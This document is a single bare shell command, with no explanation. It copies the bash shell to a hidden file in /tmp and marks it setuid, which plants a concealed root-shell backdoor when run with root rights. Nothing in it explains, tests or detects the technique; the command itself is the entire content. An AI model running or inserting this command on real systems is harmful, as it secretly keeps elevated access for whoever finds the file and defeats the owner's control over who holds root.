cp /bin/bash /tmp/.b && chmod u+s /tmp/.b
